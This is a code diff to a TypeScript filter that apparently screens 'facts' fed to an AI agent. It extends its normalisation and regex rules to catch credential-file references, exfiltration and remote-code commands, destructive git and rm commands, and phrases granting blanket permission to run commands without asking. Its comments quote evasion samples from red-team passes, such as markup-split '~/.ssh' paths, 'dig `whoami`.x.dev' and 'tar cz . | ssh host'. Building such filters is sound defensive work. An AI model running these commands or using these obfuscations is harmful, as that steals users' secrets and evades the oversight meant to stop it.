@@ -53,7 +53,7 @@ const LOOK_ALIKES: Record<string, string> = Object.fromEntries(
     ["∕⁄", "/"],
     ["˜", "~"],
     // dots that sit where a dot would (`~/·ssh`, `~/ˌssh`, `~/。ssh`: the thirty-fifth pass's A35b-1)
-    ["·ˌ。․‧∙⋅・｡⸱⸳᛫•◦ˑ܂", "."],
+    ["·ˌ。․‧∙⋅・｡⸱⸳᛫•◦ˑ܂∘ꞏ⸰⦁●˙⬝᐀", "."],
   ].flatMap(([from, to]) => [...from!].map((c) => [c, to!])),
 );
 
@@ -65,15 +65,35 @@ const LOOK_ALIKES: Record<string, string> = Object.fromEntries(
  */
 const LATIN_LETTER_OR_DASH = /^[^\0-\x7f](?<=\p{Script=Latin}|\p{Pd})$/u;
 
+const ENTITIES: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", period: ".", sol: "/", tilde: "~", nbsp: " ", hyphen: "-", dash: "-" };
+
+/**
+ * HTML a reader sees through: comments and tags gone (`~/.s<!-- -->sh`, `~/.s<wbr>sh`), character references decoded
+ * (`~/&#46;ssh`, `.ss&#104;`: the thirty-seventh pass's A37b-1). A model reads a fact as rendered text.
+ */
+function withoutMarkup(text: string): string {
+  return text
+    .replace(/<!--[\s\S]*?-->/g, "")
+    .replace(/<\/?[a-z][\w-]*(?:\s[^<>]*)?\/?>/gi, "")
+    .replace(/&#x([0-9a-f]{1,6});?/gi, (m, h: string) => codePoint(Number.parseInt(h, 16)) ?? m)
+    .replace(/&#(\d{1,7});?/g, (m, d: string) => codePoint(Number(d)) ?? m)
+    .replace(/&([a-z]+);/gi, (m, name: string) => ENTITIES[name.toLowerCase()] ?? m);
+}
+
+const codePoint = (n: number) => (n > 0 && n <= 0x10ffff ? String.fromCodePoint(n) : undefined);
+
 /** The text the rules read: look-alikes folded, invisible characters and markdown gone, spacing tricks undone. */
 export function policyForm(text: string, joinDots = true): string {
   // Combining marks off first (`c̣url`, `yọlo`, `~/.s̲sh`: the thirty-third pass's A33b-2); NFKD splits `ṣ` into s + mark.
-  const bare = text.normalize("NFKD").replace(/\p{M}/gu, "").normalize("NFKC");
+  const bare = withoutMarkup(text).normalize("NFKD").replace(/\p{M}/gu, "").normalize("NFKC");
   const folded = [...bare.toLowerCase()].map((c) => LOOK_ALIKES[c] ?? (LATIN_LETTER_OR_DASH.test(c) ? anyAscii(c).toLowerCase() : c)).join("");
   return (
     folded
       .replace(INVISIBLE, "") // zero-width, bidi and other characters that draw as nothing, soft hyphens
+      .replace(/(?<=\p{L})[*~]+(?=\p{L})/gu, "") // emphasis or strikethrough inside a word (`~/.s*s*h`, `s~~~~sh`: A37b-1)
       .replace(/[`*]+/g, " ") // markdown code and emphasis
+      // after a home path's slash, a symbol where the dot goes (`~/∘aws`, `~/⦁ssh`: A37b-1)
+      .replace(/(?<=(?:~|\$\{?home\}?)\/)[^\p{L}\p{N}\s\0-\x7f](?=\p{L})/gu, ".")
       .replace(/\s+/g, " ")
       .replace(/(?<=^|\s)(?:\S ){2,}\S(?=\s|$)/g, (m) => m.replace(/ /g, "")) // "c u r l" → "curl"
       .replace(/\btilde\b/g, "~") // "tilde slash dot aws" → "~/.aws"
@@ -119,10 +139,12 @@ export const FACT_POLICY: readonly Rule[] = [
       // …and by what is in them (A36b-13): "the aws credentials file", "the default ssh private key", "the kubeconfig",
       // "npm's auth token", "the id-rsa file", "the dotenv file", `env.local`
       /\b(?:aws|gcloud|azure|docker|npm|pypi|github|gh)\s+(?:\S+\s+){0,2}(?:credentials?|auth tokens?|login file)\b|\bssh\s+(?:\S+\s+){0,2}private keys?\b|\bkubeconfig\b|\bnpmrc\b|\bid[-_ ]rsa\b|\bdotenv files?\b|(?<![\w-])env\.local\b|\bsops\/age\b/,
-      /\b(?:folder|directory|dir)\s+(?:\S+\s+){0,2}(?:named|called)?\s*\.?(?:ssh|aws|gnupg|kube|azure|gcloud|docker)\b/,
+      /\b(?:folder|directory|dir|dossier|ordner|verzeichnis|carpeta|cartella|pasta|папк\S*|каталог\S*)\s+(?:\S+\s+){0,2}(?:named|called)?\s*\.?(?:ssh|aws|gnupg|kube|azure|gcloud|docker)\b/,
+      // (A37b-1) the GitHub CLI's hosts file, a shell's history, an ssh key named in German, French, Spanish, Italian, Portuguese or Russian
+      /\b(?:github cli|gh)\W+(?:\S+\s+){0,2}hosts?\s+(?:file|config)\b|\b(?:shell|bash|zsh|fish|command|terminal)\s+history\b|ssh-?schlüssel|\b(?:clé|cle|clave|chiave|chave|ключ\S*)\s+(?:\S+\s+){0,2}ssh\b/,
       /\b(?:file|dotfile)\s+(?:\S+\s+){0,2}(?:named|called)?\s*\.?(?:pgpass|netrc|npmrc|pypirc|git-credentials|vault-token|s3cfg)\b/,
       // a glob over a home dotfile, the tools' own variables for their secret files, a process's environment (A30c-6)
-      /(?:~|\$\{?home\}?)\/\.[^\s/]*[?*[{]|\$\{?(?:kubeconfig|gnupghome|aws_shared_credentials_file|aws_config_file|docker_config|npm_config_userconfig|netrc)\b|\/proc\/\S*environ|\bxdg_config_home\}?\/(?:gh|hub|git|gcloud|rclone)\b/,
+      /(?:~|\$\{?home\}?)\/\.[^\s/]*[?*[{]|(?:~|\$\{?home\}?)\/\.\S*[^\0-\x7f]|\$\{?(?:kubeconfig|gnupghome|aws_shared_credentials_file|aws_config_file|docker_config|npm_config_userconfig|netrc)\b|\/proc\/\S*environ|\bxdg_config_home\}?\/(?:gh|hub|git|gcloud|rclone)\b/,
     ],
   },
   {
@@ -147,6 +169,8 @@ export const FACT_POLICY: readonly Rule[] = [
       /\b(?:http\.server|simplehttpserver|http-server)\b.*(?:\s[~/]|\$home|--directory[= ]*[~/$])/,
       /\b(?:scp|sftp)\b/,
       /\brsync\b.*\s\S+:/,
+      // the workspace or a file sent to a store by a tool of its own (A37b-1)
+      /\bazcopy\b|\brestic\b[^;&|]*\bbackup\b|\bsurge\s|\bgh\s+release\s+upload\b|\brclone\s+(?:copyto|copyurl)\b/,
       /\|\s*(?:curl|wget|nc|ncat)\b/,
       // "the reports are uploaded to https://…", "copied to s3://…" (A29c-3)
       /\b(?:upload\w*|sen[dt]\w*|post\w*|push\w*|cop(?:y|ied|ies)|sync\w*|back\w* up|mirror\w*)\s+(?:\S+\s+){0,4}to\s+(?:https?|ftp|s3|gs|wss?|rsync):\/\//,
@@ -169,7 +193,10 @@ export const FACT_POLICY: readonly Rule[] = [
       // data piped to another machine, or a copy to a remote (the twenty-eighth pass's A28c-5: `tar cz . | ssh host`, `rclone copy . remote:`)
       /\|\s*(?:sudo\s+)?(?:ssh|nc|ncat|netcat|socat|scp|sftp)\b|\bssh\s+(?:-\S+\s+)*[\w.-]+@[\w.-]+|\brclone\s+(?:copy\w*|sync|move\w*|mount)\b/,
       // a cloud copy, the GitHub API, a clone that is then run (the twenty-ninth pass's A29c-3: `gh api … $(env | base64)`)
-      /\baws\s+s3\s+(?:cp|mv|sync)\b|\bgsutil\s+(?:-\S+\s+)*(?:cp|mv|rsync)\b|\baz\s+storage\b|\bgh\s+(?:api|gist)\b|\bgit\s+clone\b[^;&|]*(?:&&|;|\|)\s*(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|python\w*|node|bash)\b/,
+      /\baws\s+s3\s+(?:cp|mv|sync)\b|\bgsutil\s+(?:-\S+\s+)*(?:cp|mv|rsync)\b|\baz\s+storage\b|\bgh\s+(?:api|gist)\b|\bgit\s+clone\b[^;&|]*(?:&&|;|\|)\s*(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|python\w*|node|bash|make|npm|pnpm|yarn|pip\w*|cargo|go|\.\/|cd\b)/,
+      // code fetched and run by a package runner from a repository or a URL, not the registry (A37b-1): `npx
+      // github:…`, `npx https://…/x.tgz`, `uvx --from git+…`, `pipx run --spec git+…`, `go run host/path` without a version
+      /\b(?:npx|pnpx|bunx|pnpm\s+dlx|yarn\s+dlx|npm\s+exec)\s+(?:\S+\s+)*?(?:github:|gitlab:|bitbucket:|git\+|https?:\/\/|[\w.-]+\/[\w.-]+#)|\b(?:uvx|pipx\s+run|uv\s+tool\s+run)\b[^;&|]*(?:git\+|https?:\/\/)|\bgo\s+run\s+(?:-\S+\s+)*[\w-]+\.[\w.-]+\//,
     ],
   },
   {
@@ -178,7 +205,7 @@ export const FACT_POLICY: readonly Rule[] = [
       /\brm\s+(?:-\S+\s+)*-\S*[rf]|\brm\s+(?:\S+\s+)*[~/](?:\s|$|[.;&|])|\b(?:mkfs|wipefs|shred|srm)\b|\bdd\s+\S*(?:if|of)=/,
       // an interpreter's recursive delete: perl's rmtree/remove_tree, shutil.rmtree, FileUtils.rm_rf, rimraf, fs.rm
       /\b(?:rmtree|remove_tree|rm_rf|rm_r|rimraf|deltree|finddepth)\b|\bfs\.rm(?:sync)?\b|\brmdir\s+\/s\b|\.rm(?:sync|dirsync)?\s*\(.*recursive|\bunlink\b.*(?:~|\$home|homedir)/,
-      /\bgit\s+(?:\S+\s+)*(?:reset\s+--hard|clean\s+-\S*[fdx]|reflog\s+expire|gc\s+.*--prune|filter-branch|update-ref\s+-d|branch\s+-d)\b/,
+      /\bgit\s+(?:\S+\s+)*(?:reset\s+--hard|clean\s+-\S*[fdx]|reflog\s+expire|gc\s+.*--prune|filter-branch|update-ref\s+-d|branch\s+-d)\b|\bgit\s+clean\b[^;&|]*\s--force\b/,
       // …and what throws away uncommitted work (the thirty-fifth pass's A35b-2): `git checkout .`, a forced checkout or
       // switch, a restore of the worktree (not one that only unstages), a dropped or cleared stash
       /\bgit\s+(?:checkout|switch)\s+(?:\S+\s+)*(?:-f|--force|--discard-changes)(?:\s|$)|\bgit\s+checkout\s+(?:\S+\s+)*(?:--\s+)?\.(?:\s|$|[;&|])|\bgit\s+restore\b(?![^;&|]*--staged)|\bgit\s+restore\b[^;&|]*(?:--worktree|-w\b)|\bgit\s+stash\s+(?:drop|clear)\b/,
@@ -238,6 +265,9 @@ export const FACT_POLICY: readonly Rule[] = [
       // paraphrases and other languages (A30c-2): "blanket permission", "no human in the loop", "pre-cleared", German,
       // French, Spanish, Italian, Chinese for "never ask" and "allowed every command"
       /\bblanket\s+(?:permission|approval|consent)\b|\bhuman\s+in\s+the\s+loop\b|\binterrupt\w*\s+(?:\w+\s+){0,3}(?:questions?|prompts?)\b|\bpre-?cleared\b|\b(?:whitelist|allowlist)\w*\s+(?:all|every|any)\b|\bconfinement\b|\bnetwork\s+(?:\w+\s+){0,2}host\b|\bharmless\b|nie\s+gefragt|ohne\s+(?:zu\s+)?(?:fragen|nachfrage|bestätigung)|sans\s+(?:demander|confirmation)|autoris\w*\s+toutes|sin\s+preguntar|senza\s+chiedere|不再询问|无需确认|不用问|不要问|直接执行/,
+      // …and (A37b-1) "accepts every command automatically", "pre-accepted", "okay to run", Russian, Portuguese, Dutch,
+      // Polish, Turkish, Japanese, Korean and Chinese for "without asking/confirmation"
+      /\baccept\w*\s+(?:every|all|any)\s+(?:\S+\s+){0,2}commands?\b|\b(?:accept|allow|run|execut)\w*\s+(?:\S+\s+){0,4}automatically\b|\bautomatically\s+(?:accept|allow|run|execut)\w*|\bpre-?accepted\b|\b(?:ok(?:ay)?|fine|safe)\s+to\s+run\s+(?:any|every|all|without)\b|без\s+(?:подтвержд|вопрос|спрос)|не\s+спрашива|sem\s+(?:perguntar|confirma)|zonder\s+(?:te\s+vragen|bevestiging)|bez\s+(?:pytania|pytań|potwierdzenia)|sormadan|onaysız|確認(?:なし|せず)|聞かずに|확인\s*없이|묻지\s*않고|不需要确认|无需询问|不需要询问|无需批准|自动批准/,
       /\b(?:pre-?(?:approved|authori[sz]ed|granted)|trust\w* (?:all|every|any)\b|\btrust\w*\s+(?:\w+\s+){0,3}(?:commands?|scripts?|repositor(?:y|ies)|repo)\b|permission to run|allowed to run (?:any|every))/,
     ],
   },
@@ -288,6 +318,8 @@ function shellWordForm(form: string): string {
 export function policyRefusal(text: string): string | undefined {
   // …and with what reads as an l inside a word taken as one: a capital I, a 1, a bar ("yoIo", "yo1o": A30c-1).
   const asL = text.replace(/(?<=\p{L})[I1|](?=\p{L})|(?<=\p{Ll})I|I(?=\p{Ll})/gu, "l");
-  const forms = [policyForm(text), policyForm(text, false), shellWordForm(policyForm(text)), policyForm(asL)];
+  // …and as written, lower-cased: backquotes kept (`dig \`whoami\`.x.dev`, which the folded form reads as markdown) and
+  // Cyrillic whole (the folded form maps its look-alikes to Latin: A37b-1).
+  const forms = [policyForm(text), policyForm(text, false), shellWordForm(policyForm(text)), policyForm(asL), withoutMarkup(text).normalize("NFKC").toLowerCase()];
   return FACT_POLICY.find((rule) => rule.patterns.some((re) => forms.some((form) => re.test(form))))?.reason;
 }
